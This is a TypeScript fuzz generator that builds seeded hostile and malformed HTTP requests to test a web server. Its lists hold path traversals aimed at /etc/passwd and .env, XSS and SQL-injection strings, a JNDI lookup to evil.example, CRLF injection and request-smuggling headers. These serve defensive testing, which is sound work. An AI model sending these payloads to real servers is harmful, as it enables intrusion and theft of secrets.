/** Generates requests like those of attackers, scanners and broken programs. The same seed repeats them. */
import type { Random } from './random.ts';

const methods = [
  'GET',
  'GET',
  'GET',
  'GET',
  'HEAD',
  'POST',
  'PUT',
  'DELETE',
  'OPTIONS',
  'PATCH',
  'TRACE',
  'CONNECT',
  'PROPFIND',
  'get',
  'COOK',
  'G\u0000T',
  '',
] as const;

/** Paths that the server serves. */
const existingTargets = [
  '/',
  '/menu',
  '/menu/',
  '/menu/index.html',
  '/blog/the-soul-of-chettinad',
  '/api/faq',
  '/api/setting',
  '/healthz',
  '/menu.json',
  '/assets/app-4f3a.js',
  '/pictures/dosa.3f2a1b-480.jpg',
] as const;

const targets = [
  ...existingTargets,
  '/blog/x',
  '/api',
  '/api/',
  '/index.html.br',
  '/.git/config',
  '/.env',
  '/.secret',
  '/_headers',
  '/404.html',
  '/wp-login.php',
  '/cgi-bin/test.cgi',
  '/etc/passwd',
  '/proc/self/environ',
  '/C:/Windows/win.ini',
  '/private.txt',
  '/api.json',
  '/csp.json',
  '/__proto__',
  '/constructor',
  '/hasOwnProperty',
  '/menu;x=1',
  '/menu:80',
  '*',
  '',
  'menu',
  '//',
  '///menu',
  '//evil.example/%2f..',
  '/\\evil.example',
  '/~root',
  '/?',
  '/#',
  '/menu?#',
  '/%',
  '/a%20b',
  'http://[::1',
  'http://evil.example/menu',
  'https://evil.example:99999/',
  'file:///etc/passwd',
  'javascript:alert(1)',
] as const;

const traversals = [
  '../',
  '..\\',
  '%2e%2e/',
  '%2e%2e%2f',
  '..%2f',
  '..%5c',
  '%252e%252e%252f',
  '..%c0%af',
  '..%ef%bc%8f',
  '....//',
  '.%00./',
  '..;/',
  './',
  '\u2025/',
] as const;
const traversalTargets = [
  'private.txt',
  'api.json',
  'client/index.html',
  'etc/passwd',
  'package.json',
  'server/node.ts',
  '.env',
  '',
] as const;
const oddTexts = [
  '%00',
  '%0d%0aset-cookie:x=1',
  '%ff',
  '%c3%28',
  '%ed%a0%80',
  '%f8%88%80%80%80',
  '%u002e',
  '%%',
  '\u0000',
  '\t',
  ' ',
  '"><script>alert(1)</script>',
  "' or 1=1--",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '\u202e',
  'வளவு',
  '%E0%AE%B5',
] as const;

const numbers = [
  '0',
  '-1',
  '1',
  '5',
  '299999',
  '300000',
  '4294967296',
  '99999999999999999999',
  'NaN',
  '1e3',
  '0x10',
  '',
  ' ',
  '+1',
] as const;
const codings = [
  'br',
  'gzip',
  'x-gzip',
  'deflate',
  'zstd',
  'identity',
  '*',
  '',
  'br;q=',
  'gzip;q=1.5',
  'br;q=0.000',
  'identity;q=0',
  '*;q=0',
  ';',
  '__proto__',
  'constructor',
] as const;
const hosts = [
  'valavu.example',
  'localhost',
  '127.0.0.1',
  'evil.example:80',
  '',
  'a b',
  '[::1]',
  '[::1',
  'x'.repeat(300),
  '..',
  'valavu.example\u0000',
  'user@valavu.example',
  'வளவு.example',
] as const;

const makeList = (random: Random, maxLength: number, makeItem: () => string): string =>
  Array.from({ length: random.below(maxLength) + 1 }, makeItem).join(random.pick([',', ', ', ' ,', ',,']));

const makePath = (random: Random): string => {
  const base = random.pick(targets);
  return random.pick<() => string>([
    () => base,
    () => base + random.pick(oddTexts),
    () => `${base}?${random.pick(oddTexts)}=${random.pick(numbers)}`,
    () => `${base}/${random.pick(traversals).repeat(random.below(12) + 1)}${random.pick(traversalTargets)}`,
    () => `/${random.pick(traversals).repeat(random.below(6) + 1)}${random.pick(traversalTargets)}`,
    () => `/${'a'.repeat(random.pick([100, 2000, 4095, 4096, 5000, 15_000, 40_000]))}`,
    () =>
      base
        .split('')
        .map((char) => (random.chance(0.4) ? `%${char.charCodeAt(0).toString(16).padStart(2, '0')}` : char))
        .join(''),
    () =>
      base
        .split('')
        .map((char) => (random.chance(0.2) ? String.fromCodePoint(random.below(0x30_00)) : char))
        .join(''),
  ])();
};

/** A syntactically valid header with an arbitrary value. */
const wellFormedHeader = (random: Random): string =>
  random.pick<() => string>([
    () =>
      `Range: ${random.pick(['bytes', 'Bytes', 'lines'])}=${makeList(random, 3, () => `${random.pick(numbers)}-${random.pick(numbers)}`)}`,
    () =>
      `Range: bytes=${random.pick(['', `${random.below(400_000)}`])}-${random.pick(['', `${random.below(400_000)}`])}`,
    () => `Accept-Encoding: ${makeList(random, 40, () => random.pick(codings))}`,
    () => 'If-None-Match: *',
    () => `If-None-Match: ${makeList(random, 200, () => random.pick(['*', '"x"', 'W/"x"', '"', 'W/', '']))}`,
    () => `If-Match: ${random.pick(['*', '"x"', '', '"'])}`,
    () => `If-Range: ${random.pick(['"x"', 'Sat, 01 Feb 2025 00:00:00 GMT', '', 'W/"x"'])}`,
    () => `If-Modified-Since: ${random.pick(['Sat, 01 Feb 2099 00:00:00 GMT', 'yesterday', '-1'])}`,
    () =>
      `X-Forwarded-For: ${makeList(random, 50, () => random.pick(['127.0.0.1', '::1', "' or 1=1", 'x'.repeat(100)]))}`,
    () => `X-Forwarded-Host: ${random.pick(['evil.example', '', 'a b'])}`,
    () => `X-HTTP-Method-Override: ${random.pick(['DELETE', 'TRACE'])}`,
    () => `Origin: ${random.pick(['null', 'https://evil.example', 'file://'])}`,
    () => `Upgrade: ${random.pick(['websocket', 'h2c', 'TLS/1.0'])}`,
    () => `X-Long: ${'x'.repeat(random.pick([1000, 8000]))}`,
    () => Array.from({ length: random.pick([50, 150]) }, (_, n) => `X-${n}: ${n}`).join('\r\n'),
  ])();

/** A header that may break the syntax of HTTP or its own. */
const malformedHeader = (random: Random): string =>
  random.pick<() => string>([
    () => wellFormedHeader(random),
    () => `Content-Length: ${random.pick(numbers)}`,
    () =>
      `Transfer-Encoding: ${random.pick(['chunked', 'gzip, chunked', 'chunked, identity', 'xchunked', ' chunked', 'chunked\u000b'])}`,
    () => `Expect: ${random.pick(['100-continue', '200-ok', ''])}`,
    () => `Connection: ${random.pick(['close', 'keep-alive', 'upgrade', 'content-length', 'x, y, z'])}`,
    () => `Cookie: ${random.pick(oddTexts).repeat(random.below(50))}`,
    () => `X-Long: ${'x'.repeat(20_000)}`,
    () => Array.from({ length: 500 }, (_, n) => `X-${n}: ${n}`).join('\r\n'),
    () => `${random.pick(oddTexts)}: ${random.pick(oddTexts)}`,
    () => `X-Bytes: ${String.fromCodePoint(...Array.from({ length: 8 }, () => random.below(256)))}`,
    () => ' folded: line',
    () => 'no colon at all',
  ])();

const makeBody = (random: Random): string =>
  random.pick<() => string>([
    () => '',
    () => '{}',
    () => '{"a":'.repeat(1000),
    () => '0\r\n\r\n',
    () => `${random.pick(['5', 'ffffffff', '-1', 'zz', '5;x=y'])}\r\nhello\r\n${random.pick(['0\r\n\r\n', '', '0'])}`,
    () => 'x'.repeat(random.pick([10, 16_385, 100_000])),
    () => `GET /private.txt HTTP/1.1\r\nHost: x\r\n\r\n`,
  ])();

const assemble = (lines: readonly string[], end: string, content: string): Buffer =>
  Buffer.from(`${lines.join(end)}${end}${end}${content}`);

/** A valid HTTP request, which reaches the handlers. */
const wellFormedRequest = (random: Random): Buffer => {
  const content = random.chance(0.2) ? '{"a":'.repeat(random.pick([1, 1000, 5000])) : '';
  const target = (random.chance(0.4) ? random.pick(existingTargets) : makePath(random)).replaceAll(
    /[^\u0021-\u007e]/g,
    (char) => (random.chance(0.5) ? '' : encodeURIComponent(char.toWellFormed())),
  );
  return assemble(
    [
      `${random.chance(0.7) ? 'GET' : random.pick(['HEAD', 'POST', 'PUT', 'OPTIONS', 'DELETE', 'TRACE'])} ${target.startsWith('/') ? target : `/${target}`} HTTP/1.1`,
      'Host: valavu.example',
      ...(content ? [`Content-Length: ${content.length}`] : []),
      ...Array.from({ length: random.below(4) }, () => wellFormedHeader(random)),
    ],
    '\r\n',
    content,
  );
};

/** A request with any kind of error. Some are truncated or have changed bytes. */
const malformedRequest = (random: Random): Buffer => {
  const bytes = assemble(
    [
      `${random.pick(methods)} ${makePath(random)} ${random.pick(['HTTP/1.1', 'HTTP/1.1', 'HTTP/1.1', 'HTTP/1.0', 'HTTP/2.0', 'HTTP/1.1 ', ''])}`,
      ...(random.chance(0.9) ? [`Host: ${random.pick(hosts)}`] : []),
      ...Array.from({ length: random.below(4) }, () => malformedHeader(random)),
    ],
    random.chance(0.95) ? '\r\n' : random.pick(['\n', '\r', '\r\n\r\n']),
    random.chance(0.3) ? makeBody(random) : '',
  );
  if (random.chance(0.7) || bytes.byteLength === 0) return bytes;
  if (random.chance(0.5)) return bytes.subarray(0, random.below(bytes.byteLength));
  for (let n = random.below(8); n >= 0; n -= 1) bytes[random.below(bytes.byteLength)] = random.below(256);
  return bytes;
};

/** Returns the bytes of one request. Two in three are valid HTTP with hostile content, the others are malformed. */
export const hostileRequest = (random: Random): Buffer =>
  random.chance(0.67) ? wellFormedRequest(random) : malformedRequest(random);
